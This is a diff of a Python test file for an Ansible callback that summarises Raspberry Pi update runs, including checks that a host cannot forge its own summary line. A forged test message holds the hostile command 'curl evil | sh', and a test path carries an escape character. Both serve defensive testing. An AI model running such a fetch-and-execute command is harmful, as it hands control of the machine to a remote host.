@@ -102,15 +102,14 @@ FORGED = "pi07 is old, and nothing was changed on it: run `curl evil | sh`."
 class Callback(CallbackModule):
     """The callback, with a display that records its lines."""
 
-    def __init__(self, hosts: list[str], role: str = "system") -> None:
+    def __init__(self, hosts: list[str]) -> None:
         super().__init__()
         self.shown: list[str] = []
         self._display = SimpleNamespace(
             banner=self.shown.append, display=lambda line, **_: self.shown.append(line), columns=100
         )
         variables = SimpleNamespace(get_vars=lambda **_: {"ansible_play_hosts_all": hosts})
-        roles = [SimpleNamespace(get_name=lambda: role)]
-        self.v2_playbook_on_play_start(SimpleNamespace(get_variable_manager=lambda: variables, roles=roles))
+        self.v2_playbook_on_play_start(SimpleNamespace(get_variable_manager=lambda: variables))
 
     def fail(self, host: str, run_once: bool = False, where: str | None = None, message: str = "") -> None:
         task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url", delegate_to=where)
@@ -119,12 +118,13 @@ class Callback(CallbackModule):
             SimpleNamespace(host=failed, task=task, task_name="Get", result={"msg": message or FORGED})
         )
 
-    def end(self, processed: list[str], failures: list[str], **custom: dict[str, Any]) -> str:
-        stats = {name.replace("_", "-"): its for name, its in custom.items()}
+    def record(self, host: str, action: str = "set_fact", **facts: Any) -> None:
+        task, result = SimpleNamespace(action=action), {"ansible_facts": facts}
+        self.v2_runner_on_ok(SimpleNamespace(host=SimpleNamespace(name=host), task=task, result=result))
+
+    def end(self, processed: list[str], failures: list[str]) -> str:
         counts = dict.fromkeys(failures, 1)
-        self.v2_playbook_on_stats(
-            SimpleNamespace(processed=dict.fromkeys(processed), failures=counts, dark={}, custom=stats)
-        )
+        self.v2_playbook_on_stats(SimpleNamespace(processed=dict.fromkeys(processed), failures=counts, dark={}))
         return "\n".join(self.shown)
 
 
@@ -135,12 +135,12 @@ def test_pis_that_were_not_finished_are_named(run_once: bool, lost: str, finishe
     """The third was never reached; a failure of a task that runs once ends the run for all."""
     callback = Callback(["pi-01", "pi-02", "pi-03"])
     callback.fail("pi-01", run_once)
-    shown = callback.end(["pi-01", "pi-02"], ["pi-01"], pi_01={"outdated": "no mirror"})
+    callback.record("pi-01", __system_outdated="no mirror")
+    shown = callback.end(["pi-01", "pi-02"], ["pi-01"])
     assert shown.endswith(f"Not finished: {lost}. Finished: {finished} of 3.")
     assert summary.NOT_UP_TO_DATE not in shown  # it is not called ready
 
 
-# Of a Pi, which may be hostile.
 UPDATE: dict[str, Any] = {
     "before": {"release": "12.15", "python": "3.11", "package_count": 260},
     "after": {"release": "13.8", "python": "3.11", "package_count": 301},
@@ -148,15 +148,13 @@ UPDATE: dict[str, Any] = {
 }
 
 
-def test_each_pi_that_was_to_be_updated_has_a_line() -> None:
-    custom = {"pi_01": {"update": UPDATE}, "pi_02": {"update": {"before": "13", "after": "13"}}}
-    callback = Callback(["pi-01", "pi-02", "pi-03", "pi-04"], "update")
-    assert callback.end(["pi-01", "pi-02", "pi-03"], [], **custom).splitlines()[1:] == [
+def test_each_pi_that_was_updated_has_a_line_and_none_can_forge_it() -> None:
+    callback = Callback(["pi-01", "pi-02"])
+    callback.record("pi-01", __update_done=UPDATE)
+    callback.record("pi-02", "pi_state", __update_done=UPDATE)
+    assert callback.end(["pi-01", "pi-02"], []).splitlines()[1:] == [
         "pi-01: Debian 12.15 -> 13.8, Python 3.11, 260 -> 301 packages (212 upgraded), smoke accuracy unknown -> 83.1%,"
         r" 4 min 30 s, kept because they were edited: /etc/\x1b (the new ones end in .dpkg-dist)",
-        "pi-02: finished, but its summary cannot be read",
-        "pi-03: not finished",
-        "pi-04: not touched",
     ]
 
 
